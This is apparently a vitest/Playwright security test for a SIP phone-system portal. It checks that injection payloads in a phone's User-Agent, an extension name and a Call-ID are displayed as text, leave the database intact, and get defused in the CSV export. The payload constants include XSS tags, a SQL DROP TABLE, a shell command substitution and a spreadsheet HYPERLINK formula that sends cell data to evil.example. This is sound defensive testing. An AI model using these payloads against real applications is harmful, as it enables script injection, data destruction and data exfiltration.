/**
 * Text that came from phones and people is shown and exported as text (issue
 * 12): a phone registers with HTML, SQL and shell payloads in its User-Agent, an
 * extension is named with them, a call is made; the portal's dashboard, call
 * history and extension list show the payloads literally without running them,
 * the database is whole, and the CSV export defuses the formula.
 *
 * Skipped without /usr/bin/chromium, unless NIMBUS_REQUIRE_INTEROP=1 (CI).
 */
import { existsSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authorize } from '../../src/sip/auth.js';
import { browserTests, type PortalNode, portalAndBrowser } from '../helpers/browser.js';
import { portalSession } from '../helpers/portal-session.js';
import { type RawClient, udpClient } from '../helpers/raw-sip.js';

/** Each runs something if a page or a shell ever treats it as code. */
const UA = `<img src=x onerror="window.__pwned='ua'">'; DROP TABLE calls;-- $(touch /tmp/nimbus-pwned)`;
const NAME = `=HYPERLINK("http://evil.example/?"&A1,"<b>x</b>") <script>window.__pwned='name'</script>`;
const CALL_ID = `-1+1<svg/onload=window.__pwned=1>'x'`;

describe.runIf(browserTests)(
  'values from SIP and from people are shown as text',
  { timeout: 120_000 },
  () => {
    let portal: PortalNode;
    let browser: Browser;
    let adminCookie = '';
    let client: RawClient;
    const { signInCookie, open, settled, rest } = portalSession(() => ({ portal, browser, adminCookie }));

    /** A request from extension 101, sent again with credentials when challenged; returns the final status. */
    async function send(
      method: 'REGISTER' | 'INVITE',
      extra: string[],
      callId: string,
      target = '',
    ): Promise<number> {
      const demo = portal.node.demo!;
      const domain = demo.sipDomain;
      const secret = demo.extensions.find((e) => e.number === '101')!.sipSecret;
      const ruri = method === 'REGISTER' ? `sip:${domain}` : `sip:${target}@${domain}`;
      const compose = (cseq: number, auth?: string) =>
        [
          `${method} ${ruri} SIP/2.0`,
          `Via: SIP/2.0/UDP 127.0.0.1:${client.port};branch=z9hG4bK-x${cseq}${callId.length};rport`,
          'Max-Forwards: 70',
          `From: "<i>spoofed</i>" <sip:101@${domain}>;tag=esc${cseq}`,
          `To: <${method === 'REGISTER' ? `sip:101@${domain}` : ruri}>`,
          `Call-ID: ${callId}`,
          `CSeq: ${cseq} ${method}`,
          `Contact: <sip:101@127.0.0.1:${client.port}>`,
          `User-Agent: ${UA}`,
          ...extra,
          ...(auth ? [auth] : []),
          'Content-Length: 0',
          '',
          '',
        ].join('\r\n');
      const first = await client.exchange(compose(1), callId);
      const challenge = /\r\n(WWW|Proxy)-Authenticate: ([^\r]+)/i.exec(first.raw);
      if (!challenge) return Number(first.raw.slice(8, 11));
      const header = challenge[1]!.toLowerCase() === 'www' ? 'Authorization' : 'Proxy-Authorization';
      const value = authorize(challenge[2]!, { username: '101', password: secret }, { method, uri: ruri });
      const second = await client.exchange(compose(2, `${header}: ${value}`), callId);
      const status = Number(second.raw.slice(8, 11));
      if (method === 'INVITE' && status >= 300) {
        const to = /\r\nTo: ([^\r]+)/i.exec(second.raw)?.[1] ?? '';
        client.send(
          [
            `ACK ${ruri} SIP/2.0`,
            `Via: SIP/2.0/UDP 127.0.0.1:${client.port};branch=z9hG4bK-x2${callId.length};rport`,
            'Max-Forwards: 70',
            `From: "<i>spoofed</i>" <sip:101@${domain}>;tag=esc2`,
            `To: ${to}`,
            `Call-ID: ${callId}`,
            'CSeq: 2 ACK',
            'Content-Length: 0',
            '',
            '',
          ].join('\r\n'),
        );
      }
      return status;
    }

    beforeAll(async () => {
      ({ portal, browser } = await portalAndBrowser());
      adminCookie = await signInCookie(portal.admin);
      client = await udpClient(portal.node.sipPorts.udp);
      // Extension 101 is named with the payload by its admin (what the portal shows for its calls).
      const list = await rest<{ items: { id: string; number: string }[] }>('/extensions?limit=100');
      const ext = list.body.items.find((e) => e.number === '101')!;
      const renamed = await rest(`/extensions/${ext.id}`, { method: 'PATCH', body: { displayName: NAME } });
      expect(renamed.status).toBe(200);
      expect(await send('REGISTER', ['Expires: 600'], 'esc-register@test')).toBe(200);
      // A call to 103 (not registered): the record is written with the caller's name.
      expect(await send('INVITE', [], CALL_ID, '103')).toBeGreaterThanOrEqual(400);
    });
    afterAll(async () => {
      client?.close();
      await portal?.close();
      await browser?.close();
    });

    async function noScriptRan(page: Page): Promise<void> {
      expect(await page.evaluate('window.__pwned')).toBeUndefined();
      // Nothing of the payloads became markup: no injected element exists anywhere on the page.
      expect(await page.locator('main img[src="x"], main svg[onload], main script, main b').count()).toBe(0);
    }

    it("shows the phone's User-Agent on the dashboard as text", async (t) => {
      const { page } = await open(t, { as: 'admin' });
      const dialogs: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await page.goto('/');
      await expect.poll(() => page.getByText(UA, { exact: true }).count(), { timeout: 15_000 }).toBe(1);
      await noScriptRan(page);
      expect(dialogs).toEqual([]);
    });

    it('shows the name in the extension list and the call history as text', async (t) => {
      const { page } = await open(t, { as: 'admin' });
      await page.goto('/extensions');
      await settled(page, 'Extensions');
      expect(await page.getByText(NAME, { exact: true }).count()).toBeGreaterThan(0);
      await noScriptRan(page);
      await page.goto('/calls');
      await settled(page, 'Call history');
      await expect.poll(() => page.getByText(NAME).count(), { timeout: 15_000 }).toBeGreaterThan(0);
      await noScriptRan(page);
      // The phone could not put its own display name on the call: the directory's name is used.
      expect(await page.getByText('spoofed').count()).toBe(0);
    });

    it('keeps the database whole and exports the name defused', async () => {
      const calls = await rest<{ items: { callerName: string; caller: string }[] }>('/calls?limit=10');
      expect(calls.status).toBe(200);
      const call = calls.body.items.find((c) => c.caller === '101');
      expect(call?.callerName).toBe(NAME);
      const res = await fetch(`${portal.url}/api/v1/tenants/${portal.tenantId}/calls/export.csv`, {
        headers: { cookie: `nimbus_session=${adminCookie}` },
      });
      const csv = await res.text();
      // A spreadsheet would run a cell starting with "="; the export starts it with a quote.
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
      // Nothing passed a payload to a shell.
      expect(existsSync('/tmp/nimbus-pwned')).toBe(false);
    });
  },
);
